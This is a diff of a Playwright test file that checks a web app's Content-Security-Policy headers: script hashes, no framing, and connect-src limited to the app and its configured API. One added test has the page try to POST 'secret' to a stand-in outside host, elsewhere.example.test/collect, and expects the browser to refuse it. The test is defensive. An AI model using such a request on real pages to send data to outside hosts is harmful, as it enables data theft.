@@ -1,16 +1,27 @@
 import { createHash } from 'node:crypto';
-import type { Page } from '@playwright/test';
+import type { APIRequestContext, Page } from '@playwright/test';
 import { expect, test } from './fixtures';
 import { signIn } from './session';
 import { expectNoPolicyViolations, policyViolations, watchPolicyViolations } from './smoke-checks';
 
 /**
  * The Content-Security-Policy of the build (vite-plugins/csp.ts): a `<meta>` that lets run
- * only the app's own scripts and the inline ones it hashed, and the `frame-ancestors`
- * header `vite preview` sends. The smoke walk (smoke.spec.ts) fails on any violation of a
- * page of the app; these tests prove the policy is there and enforced.
+ * only the app's own scripts and the inline ones it hashed, and the header `vite preview`
+ * sends (vite-plugins/runtime-config.ts): `frame-ancestors 'none'` and a `connect-src` of
+ * this origin and the API that the served config.json names. The smoke walk (smoke.spec.ts)
+ * fails on any violation of a page of the app; these tests prove the policy is there and
+ * enforced.
  */
 const POLICY_META = 'meta[http-equiv="Content-Security-Policy"]';
+
+/** The header policy for the API the served config.json names (its own origin for a path). */
+async function expectedHeader(request: APIRequestContext) {
+  const config = (await (await request.get('/config.json')).json()) as { apiUrl?: string };
+  const api = /^https?:\/\//.test(config.apiUrl ?? '')
+    ? ` ${new URL(config.apiUrl ?? '').origin}`
+    : '';
+  return `frame-ancestors 'none'; connect-src 'self'${api}`;
+}
 
 /** The texts of the document's inline scripts, as the browser parsed them. */
 const inlineScriptTexts = (page: Page) =>
@@ -22,11 +33,12 @@ const sha256 = (text: string) =>
   `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;
 
 for (const path of ['/login', '/apps/email', '/']) {
-  test(`${path} is served with its policy: a hash per inline script, and no framing`, async ({
+  test(`${path} is served with its policy: a hash per inline script, no framing, calls to the API`, async ({
     page,
+    request,
   }) => {
     const response = await page.goto(path);
-    expect(response?.headers()['content-security-policy']).toBe("frame-ancestors 'none'");
+    expect(response?.headers()['content-security-policy']).toBe(await expectedHeader(request));
 
     // First in <head> after the charset: the policy covers every element after it.
     const html = (await response?.text()) ?? '';
@@ -94,6 +106,36 @@ test.describe('the policy is enforced', () => {
       .poll(() => policyViolations(page))
       .toEqual([expect.stringMatching(/^script-src refused eval at /)]);
   });
+
+  test('the page calls only its own origin and the configured API', async ({ page }) => {
+    await watchPolicyViolations(page);
+    await page.goto('/login');
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    const outcome = await page.evaluate(() =>
+      fetch('https://elsewhere.example.test/collect', { method: 'POST', body: 'secret' }).then(
+        () => 'sent',
+        (error: unknown) => (error instanceof TypeError ? 'refused' : String(error)),
+      ),
+    );
+    expect(outcome).toBe('refused');
+    await expect
+      .poll(() => policyViolations(page))
+      .toEqual([
+        expect.stringMatching(/^connect-src refused https:\/\/elsewhere\.example\.test\/collect /),
+      ]);
+  });
+});
+
+test('config.json is revalidated, and the demo worker may pass any request through', async ({
+  request,
+}) => {
+  const config = await request.get('/config.json');
+  expect(config.headers()['cache-control']).toBe('no-cache');
+  expect(config.headers()['content-type']).toContain('application/json');
+  // A worker's own policy would apply to the requests it makes for the page (images of other
+  // origins in an email): its script gets only the frame rule.
+  const worker = await request.get('/mockServiceWorker.js');
+  expect(worker.headers()['content-security-policy']).toBe("frame-ancestors 'none'");
 });
 
 test('no other site can show the app in a frame', async ({ page, baseURL }) => {
